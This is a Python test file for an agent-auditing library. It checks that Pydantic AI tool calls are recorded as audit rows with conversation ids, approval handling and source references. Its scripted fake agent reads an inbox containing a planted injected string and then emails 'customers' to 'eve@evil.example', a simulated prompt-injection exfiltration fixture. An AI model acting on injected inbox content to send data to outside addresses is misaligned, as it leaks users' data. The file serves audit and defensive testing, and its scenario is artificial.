"""Pydantic AI's own OpenTelemetry tool spans land as rows (instrumentation v2 and default)."""

from __future__ import annotations

import json
import warnings
from typing import Any

import pytest
from opentelemetry.sdk.trace import TracerProvider

from tests.frameworks.peers.conftest import INJECTED, Recorded

pytest.importorskip("pydantic_ai")

from pydantic_ai import Agent, DeferredToolRequests, DeferredToolResults
from pydantic_ai.capabilities.instrumentation import Instrumentation
from pydantic_ai.messages import ModelMessage, ModelResponse, TextPart, ToolCallPart
from pydantic_ai.models.function import AgentInfo, FunctionModel
from pydantic_ai.models.instrumented import InstrumentationSettings


def script(messages: list[ModelMessage], info: AgentInfo) -> ModelResponse:
    turn = sum(1 for message in messages if message.kind == "response")
    if turn == 0:
        return ModelResponse(parts=[ToolCallPart("read_inbox", {"folder": "INBOX"}, "call_1")])
    if turn == 1:
        args = {"to": "eve@evil.example", "body": "customers"}
        return ModelResponse(parts=[ToolCallPart("send_email", args, "call_2")])
    return ModelResponse(parts=[TextPart("done")])


def make_agent(provider: TracerProvider, version: int | None, *, approval: bool) -> Agent[Any, Any]:
    settings = (
        InstrumentationSettings(tracer_provider=provider)
        if version is None
        else InstrumentationSettings(tracer_provider=provider, version=version)  # type: ignore[arg-type]
    )
    agent: Agent[Any, Any] = Agent(
        FunctionModel(script),
        name="mailer",
        capabilities=[Instrumentation(settings=settings)],
        output_type=[str, DeferredToolRequests],
    )

    @agent.tool_plain
    def read_inbox(folder: str) -> str:
        return INJECTED

    @agent.tool_plain(requires_approval=approval)
    def send_email(to: str, body: str) -> str:
        return f"sent to {to}"

    return agent


@pytest.mark.parametrize("version", [2, None])
def test_native_tool_spans(
    provider: TracerProvider, recorded: Recorded, version: int | None
) -> None:
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # version 2 is deprecated, still supported
        agent = make_agent(provider, version, approval=False)
        result = agent.run_sync("check my mail")
    assert result.output == "done"
    row = recorded.row("send_email")
    assert json.loads(row["arguments"]) == {"to": "eve@evil.example", "body": "customers"}
    assert row["tool_call_id"] == "call_2"
    assert row["agent_name"] == "mailer"
    assert row["framework"] == "pydantic_ai"
    assert row["conversation_id"]  # Pydantic AI's conversation id
    assert row["conversation_id"] == recorded.row("read_inbox")["conversation_id"]


def test_deferred_call_becomes_a_row_only_when_it_runs(
    provider: TracerProvider, recorded: Recorded
) -> None:
    agent = make_agent(provider, None, approval=True)
    first = agent.run_sync("check my mail")
    assert isinstance(first.output, DeferredToolRequests)
    assert [r["tool_name"] for r in recorded.tool_rows()] == ["read_inbox"]
    second = agent.run_sync(
        message_history=first.all_messages(),
        deferred_tool_results=DeferredToolResults(approvals={"call_2": True}),
    )
    assert second.output == "done"
    row = recorded.row("send_email")
    assert row["status"] == "ok"
    # the approved call continues the same conversation
    assert row["conversation_id"] == recorded.row("read_inbox")["conversation_id"]


def test_native_and_audited_together_give_one_row_per_call(
    provider: TracerProvider, recorded: Recorded
) -> None:
    import agentaudit

    agentaudit.instrument(tracer_provider=provider, integrations=["pydantic_ai"])
    try:
        with agentaudit.context(agent="mail-assistant", user="bob", session="sess-1"):
            result = make_agent(provider, None, approval=False).run_sync("check my mail")
    finally:
        agentaudit.uninstrument()
    assert result.output == "done"
    rows = recorded.tool_rows()
    assert sorted(r["tool_name"] for r in rows) == ["read_inbox", "send_email"]
    row = recorded.row("send_email")
    assert row["framework"] == "pydantic_ai"
    assert row["arguments_hash"]  # the audited row, not Pydantic AI's own
    assert row["user_id"] == "bob"
    assert "tool:read_inbox#call_1" in row["source_refs"]
